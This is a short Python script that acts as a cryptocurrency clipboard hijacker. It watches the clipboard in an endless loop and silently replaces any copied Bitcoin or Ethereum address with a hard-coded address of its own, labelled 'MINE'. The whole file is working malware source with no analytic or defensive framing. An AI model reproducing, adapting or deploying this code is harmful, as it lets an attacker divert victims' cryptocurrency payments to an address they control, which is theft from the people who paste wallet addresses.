import re
import time
import pyperclip

MINE = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x000000000000000000000000000000000000dEaD",
}
while True:
    text = pyperclip.paste()
    for pattern, address in MINE.items():
        if pattern.match(text) and text != address:
            pyperclip.copy(address)
    time.sleep(0.5)
